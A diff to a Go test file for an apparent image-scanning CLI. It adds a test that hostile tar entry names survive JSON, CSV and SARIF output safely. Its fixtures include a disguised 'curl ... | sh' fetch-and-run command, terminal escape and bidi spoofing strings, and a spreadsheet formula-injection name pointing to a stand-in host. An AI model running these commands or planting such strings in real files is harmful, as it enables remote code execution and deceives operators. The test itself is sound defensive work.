@@ -3,11 +3,16 @@ package main
 import (
 	"archive/tar"
 	"bytes"
+	"encoding/base64"
+	"encoding/csv"
+	"encoding/json"
+	"fmt"
 	"io"
 	"log"
 	"net/http"
 	"net/http/httptest"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 	"unicode/utf8"
@@ -27,10 +32,11 @@ import (
 
 // What a hostile registry or image puts in names, commands and contents.
 const (
-	hostileRef   = "v1\x1b[2J\x1b[31mPWN"                                // clears the screen, then red
+	hostileRef   = "v1\x1b[2J\x1b[31mPWN"                                   // clears the screen, then red
 	hostileBody  = "\x1b[2J\x1b[31mYOUR SCAN IS COMPLETE, ALL CLEAN\x1b[0m" // a registry's error body
-	hostileName  = "tmp/run\x1b]0;owned\a\u202eexe.sh"                     // OSC title, bidi override
-	hostileName2 = "tmp/c1\x9b31m\xff\u200b\ufeff.sh"                      // 8-bit CSI, invalid UTF-8, zero-width
+	hostileName  = "tmp/run\x1b]0;owned\a\u202eexe.sh"                      // OSC title, bidi override
+	hostileName2 = "tmp/c1\x9b31m\xff\u200b\ufeff.sh"                       // 8-bit CSI, invalid UTF-8, zero-width
+	formulaName  = "=HYPERLINK(\"http://x.example\",\"ok\")"                // a tar name a spreadsheet would run
 	hostileCmd   = "/bin/sh -c curl http://x.example/i | sh \x1b[2K\r# apt-get update\u2066"
 )
 
@@ -54,6 +60,7 @@ func hostileTar(t *testing.T, extra string) []byte {
 	}
 	add(hostileName, 0o755, "#!/bin/sh\necho hi\n")
 	add(hostileName2, 0o755, "#!/bin/sh\necho hi\n")
+	add(formulaName, 0o644, "")
 	add("etc/motd", 0o644, strings.Repeat("welcome\n", 1200)+hostileBody+"\x9b2J\u202etxet\n")
 	if extra != "" {
 		add(extra, 0o755, "#!/bin/sh\n")
@@ -194,6 +201,94 @@ func TestHostileNamesNeverReachTheTerminal(t *testing.T) {
 		}
 		if code, out, errOut := runCLI(t, args...); code != exitOK || !strings.HasSuffix(out, hostileBody+"\x9b2J\u202etxet\n") {
 			t.Errorf("%s: exit %d, not the exact bytes (%d bytes)\n%s", strings.Join(args, " "), code, len(out), errOut)
+		}
+	}
+}
+
+// TestHostileNamesInMachineOutput: JSON, CSV and SARIF of hostile names are
+// valid UTF-8 with the exact bytes of a name that is not under NAME_base64,
+// and no CSV cell is a formula.
+func TestHostileNamesInMachineOutput(t *testing.T) {
+	reg := hostileRegistry(t)
+	db := filepath.Join(t.TempDir(), "h.db")
+	out := func(args ...string) string {
+		t.Helper()
+		code, out, errOut := runCLI(t, append(args, "--db", db)...)
+		if code != exitOK && code != exitScanErrors {
+			t.Fatalf("%s: exit %d\n%s", strings.Join(args, " "), code, errOut)
+		}
+		if !utf8.ValidString(out) {
+			t.Errorf("%s: not UTF-8:\n%q", strings.Join(args, " "), out)
+		}
+		return out
+	}
+	out("scan", "--quiet", "--format", "json", reg)
+	exact := "/" + hostileName2
+
+	var found []map[string]any
+	if err := json.Unmarshal([]byte(out("find", "--format", "json", "/tmp/c1*")), &found); err != nil || len(found) == 0 {
+		t.Fatalf("find --format json: %v %v", found, err)
+	}
+	for _, f := range found {
+		raw, err := base64.StdEncoding.DecodeString(fmt.Sprint(f["path_base64"]))
+		if want, _ := safetext.UTF8(exact); err != nil || string(raw) != exact || f["path"] != want {
+			t.Errorf("find --format json: %v, want path %q and path_base64 of %q", f, want, exact)
+		}
+	}
+
+	recs, err := csv.NewReader(strings.NewReader(out("sql", "--format", "csv", "SELECT raw_name FROM files WHERE raw_name IS NOT NULL ORDER BY 1"))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var cells []string
+	for _, r := range recs[1:] {
+		cells = append(cells, r[0])
+	}
+	if !slices.Contains(cells, "'"+formulaName) || slices.Contains(cells, formulaName) {
+		t.Errorf("CSV raw_name cells %q: want %q defused", cells, formulaName)
+	}
+
+	var rep struct {
+		Findings []struct {
+			Path       string `json:"path"`
+			PathBase64 string `json:"path_base64"`
+		} `json:"findings"`
+	}
+	if err := json.Unmarshal([]byte(out("rules", "run", "--state", "all", "--format", "json")), &rep); err != nil {
+		t.Fatal(err)
+	}
+	seen := false
+	for _, f := range rep.Findings {
+		if raw, _ := base64.StdEncoding.DecodeString(f.PathBase64); string(raw) == exact {
+			seen = true
+		}
+		if strings.ContainsRune(f.Path, utf8.RuneError) == (f.PathBase64 == "") {
+			t.Errorf("finding %q: path_base64 %q", f.Path, f.PathBase64)
+		}
+	}
+	if !seen {
+		t.Errorf("no finding carries the exact bytes of %q: %+v", exact, rep.Findings)
+	}
+	var sarif struct {
+		Runs []struct {
+			Results []struct{ Properties map[string]any }
+		}
+	}
+	if err := json.Unmarshal([]byte(out("rules", "run", "--state", "all", "--format", "sarif")), &sarif); err != nil || len(sarif.Runs) != 1 {
+		t.Fatalf("sarif: %v", err)
+	}
+	seen = false
+	for _, r := range sarif.Runs[0].Results {
+		if raw, _ := base64.StdEncoding.DecodeString(fmt.Sprint(r.Properties["path_base64"])); string(raw) == exact {
+			seen = true
+		}
+	}
+	if !seen {
+		t.Errorf("no SARIF result carries the exact bytes of %q", exact)
+	}
+	for _, l := range strings.Split(out("rules", "run", "--state", "all", "--format", "csv"), "\n") {
+		if strings.Contains(l, ",=") || strings.Contains(l, ",+") || strings.Contains(l, ",@") {
+			t.Errorf("CSV report line with a formula cell: %q", l)
 		}
 	}
 }
